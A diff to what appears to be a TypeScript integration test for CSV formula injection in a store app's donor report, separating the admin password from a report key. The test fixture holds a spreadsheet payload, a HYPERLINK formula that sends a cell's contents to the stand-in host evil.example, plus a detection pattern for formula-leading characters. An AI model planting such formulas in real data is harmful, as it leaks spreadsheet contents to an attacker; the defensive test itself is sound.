@@ -19,7 +19,10 @@ import { writeSiteConfig } from '../support/site-config';
 import { basic, cardNonce, postJson, registrant, send } from '../support/store-client';
 import { type StoreServer, startStoreServer } from '../support/store-server';
 
-const ADMIN = { username: 'treasurer', password: 'csv formula passphrase' };
+/** The account password (ADMIN_PASSWORD): an owner's needs two-factor, so the report takes a key. */
+const ADMIN_ACCOUNT_PASSWORD = 'csv formula passphrase';
+/** What /report takes: the username and the report key ADMIN_REPORT_KEY installs, as the password. */
+const ADMIN = { username: 'treasurer', password: 'rk_csv-formulas-report-key-0123456789' };
 const FORMULA = /^[=+\-@\t\r]/;
 const NUMBER = /^\d+(\.\d+)?$/;
 const ITEM_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Receipt")';
@@ -49,7 +52,8 @@ describeWithDb('CSV formula injection', () => {
       CAPTCHA_PROVIDER: 'off',
       TRUST_PROXY: 'true',
       ADMIN_USERNAME: ADMIN.username,
-      ADMIN_PASSWORD: ADMIN.password,
+      ADMIN_PASSWORD: ADMIN_ACCOUNT_PASSWORD,
+      ADMIN_REPORT_KEY: ADMIN.password,
     });
     for (const [i, donor] of DONORS.entries()) {
       const body = checkoutBody(await cardNonce(store.baseUrl), [openAmount(7, 10 + i)], donor.email);
